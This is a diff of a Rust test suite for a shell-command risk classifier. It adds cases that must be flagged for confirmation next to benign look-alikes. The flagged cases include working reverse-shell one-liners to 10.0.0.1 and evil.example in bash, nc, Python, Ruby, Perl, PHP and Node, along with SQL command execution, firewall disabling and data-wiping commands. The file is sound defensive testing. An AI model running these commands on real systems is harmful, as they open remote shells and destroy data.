@@ -127,12 +127,13 @@ fn c15_destructive_commands_of_the_fourth_list_are_caught() {
 }
 
 #[test]
-fn c15_destructive_commands_of_the_fifth_to_the_eighth_list_are_caught() {
+fn c15_destructive_commands_of_the_fifth_to_the_ninth_list_are_caught() {
     for (path, name) in [
         ("tests/data/commands/fifth.jsonl", "fifth list"),
         ("tests/data/commands/sixth.jsonl", "sixth list"),
         ("tests/data/commands/seventh.jsonl", "seventh list"),
         ("tests/data/commands/eighth.jsonl", "eighth list"),
+        ("tests/data/commands/ninth.jsonl", "ninth list"),
     ] {
         let Some(cases) = cases(path) else { return };
         let (caught, alarms) = report(name, &cases.iter().collect::<Vec<_>>());
@@ -482,4 +483,168 @@ fn c15_calls_without_an_end_are_asked_about() {
     assert!(risk(&format!("python3 -c '{}'", "foo(1);".repeat(3000))).level < RiskLevel::Confirm);
     let padded = format!("python3 -c 'import os; os.system({}\"rm -rf data\")'", "\"\" + ".repeat(900));
     assert!(risk(&padded).level >= RiskLevel::Confirm);
+}
+
+/// All of these are asked about, none of those.
+fn held(asked: &[&str], let_pass: &[&str]) {
+    for text in asked {
+        assert!(risk(text).level >= RiskLevel::Confirm, "{text}: {:?}", risk(text));
+    }
+    for text in let_pass {
+        assert!(risk(text).level < RiskLevel::Confirm, "{text}: {:?}", risk(text));
+    }
+}
+
+#[test]
+fn c15_a_program_that_another_starts_by_its_name_is_judged_as_itself() {
+    held(
+        &[
+            "pnpm prisma migrate reset",
+            "pnpm --filter api prisma migrate reset --force",
+            "yarn workspace api prisma db push --accept-data-loss",
+            "yarn run rimraf src",
+            "bun drizzle-kit push --force",
+            "npm run prisma -- migrate reset",
+            "npm explore x -- rm -rf src",
+            "python -m alembic downgrade base",
+            ".venv/bin/python3.12 -m flask db downgrade",
+            "python -m django flush --noinput",
+            "python -m pip uninstall -y -r requirements.txt",
+            "node node_modules/.bin/rimraf src",
+            "npx cross-env NODE_ENV=production prisma migrate reset",
+            "cross-env A=1 B=2 rimraf packages",
+            "npx concurrently \"rm -rf src\" \"npm start\"",
+            "pnpm db:reset",
+            "bun db:drop",
+        ],
+        &[
+            "pnpm prisma generate",
+            "yarn workspace api prisma migrate dev --name x",
+            "yarn jest removeItem",
+            "yarn add prisma",
+            "bun test",
+            "python -m pytest -k reset",
+            "python -m http.server",
+            "python -m json.tool < a.json",
+            "python -m alembic upgrade head",
+            "cross-env NODE_ENV=test jest",
+            "npx concurrently \"npm:watch\" \"npm start\"",
+            "npm run build -- --clean",
+            "pnpm dev",
+        ],
+    );
+}
+
+#[test]
+fn c15_a_shell_that_another_machine_holds_is_asked_about() {
+    held(
+        &[
+            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+            "sh -i 5<> /dev/tcp/10.0.0.1/4242 0<&5 1>&5 2>&5",
+            "exec 5<>/dev/tcp/evil.example/80",
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
+            "bash -i 2>&1 | openssl s_client -quiet -connect 10.0.0.1:1",
+            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
+            "ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
+            "perl -e 'use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
+            "php -r '$s=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+            "node -e 'const n=require(\"net\"),c=require(\"child_process\"),s=c.spawn(\"/bin/sh\",[]);const k=new n.Socket();k.connect(4,\"10.0.0.1\",()=>{k.pipe(s.stdin)})'",
+        ],
+        &[
+            "(echo > /dev/tcp/localhost/5432) 2>/dev/null && echo up",
+            "timeout 1 bash -c '</dev/tcp/db/5432'",
+            "exec 3<>/dev/tcp/127.0.0.1/8080",
+            "nc -z localhost 5432",
+            "echo stats | nc localhost 11211",
+            "python3 -c 'import socket; s=socket.socket(); s.connect((\"localhost\", 80)); print(\"up\")'",
+            "node -e 'require(\"net\").connect(80, \"localhost\").on(\"connect\", () => process.exit(0))'",
+        ],
+    );
+}
+
+#[test]
+fn c15_what_sql_does_besides_rows_is_asked_about() {
+    held(
+        &[
+            "psql -c 'REVOKE ALL ON ALL TABLES IN SCHEMA public FROM app'",
+            "psql -c \"SELECT pg_terminate_backend(pid) FROM pg_stat_activity\"",
+            "psql -c \"select pg_drop_replication_slot('s')\"",
+            "psql -c \"COPY t TO PROGRAM 'sh -c x'\"",
+            "psql -c \"ALTER ROLE app WITH PASSWORD 'x'\"",
+            "mysql -e 'KILL 42'",
+            "mysql -e \"KILL QUERY 42\"",
+            "bq query 'CREATE OR REPLACE TABLE ds.t AS SELECT 1'",
+            "hive -e 'INSERT OVERWRITE TABLE t SELECT * FROM s'",
+            "sqlcmd -Q \"EXEC xp_cmdshell 'dir'\"",
+            "mysqldump --no-data shop | mysql shop",
+            "sqlite3 prod.sqlite3 '.read wipe.sql'",
+            "psql -c '\\i drop.sql'",
+            "mysql app -e 'source teardown.sql'",
+        ],
+        &[
+            "psql -c \"SELECT pg_backend_pid()\"",
+            "psql -c 'CREATE OR REPLACE VIEW v AS SELECT 1'",
+            "psql -c 'CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$'",
+            "psql -c 'GRANT SELECT ON t TO app'",
+            "psql -c \"COPY t TO '/tmp/t.csv' CSV\"",
+            "psql -c \"INSERT INTO log(word) VALUES ('revoke')\"",
+            "psql -c '\\i schema.sql'",
+            "sqlite3 app.db '.read schema.sql'",
+            "mysqldump shop > /tmp/shop.sql",
+        ],
+    );
+}
+
+#[test]
+fn c15_code_that_is_fed_to_a_console_is_read() {
+    held(
+        &[
+            "echo 'from app.models import User; User.objects.all().delete()' | python manage.py shell",
+            "python manage.py shell <<'E'\nfrom app.models import User\nUser.objects.all().delete()\nE",
+            "bin/rails console <<'E'\nUser.delete_all\nE",
+            "echo 'User.destroy_all' | bundle exec rails c",
+            "echo 'db.dropDatabase()' | mongosh app",
+            "mongosh app <<'E'\ndb.users.deleteMany({})\nE",
+            "php artisan tinker --execute=\"App\\Models\\User::truncate();\"",
+            "php artisan tinker --execute 'DB::table(\"users\")->delete();'",
+            "echo 'User::query()->delete();' | php artisan tinker",
+            "node --input-type=module -e \"import {rm} from 'fs/promises'; await rm('src',{recursive:true})\"",
+            "tmux new-session -d 'rm -rf src'",
+        ],
+        &[
+            "echo 'print(1)' | python manage.py shell",
+            "bin/rails console <<'E'\nUser.count\nE",
+            "echo 'db.users.find()' | mongosh app",
+            "php artisan tinker --execute='echo App\\Models\\User::count();'",
+            "tmux new-session -d -s work",
+        ],
+    );
+}
+
+#[test]
+fn c15_windows_and_small_tools_that_destroy_are_asked_about() {
+    held(
+        &[
+            "powershell -Command \"Set-NetFirewallProfile -All -Enabled False\"",
+            "powershell -Command \"Disable-NetFirewallRule -All\"",
+            "powershell -Command \"Uninstall-WindowsFeature Web-Server\"",
+            "powershell -Command \"Reset-ComputerMachinePassword\"",
+            "Dismount-VHD -Path x",
+            "Unregister-ScheduledJob -Name x",
+            "fsutil usn deletejournal /d c:",
+            "lsof -ti:3000 | xargs kill -9",
+            "unzip -o archive.zip -d ~/",
+            "some-tool data clear --prod",
+            "localstack state reset",
+        ],
+        &[
+            "Clear-Host",
+            "powershell -Command \"Disable-NetFirewallRule -All -WhatIf\"",
+            "fsutil fsinfo drives",
+            "kill 4242",
+            "unzip -o archive.zip -d out",
+            "unzip archive.zip -d ~/tools",
+            "some-tool cache clear",
+        ],
+    );
 }
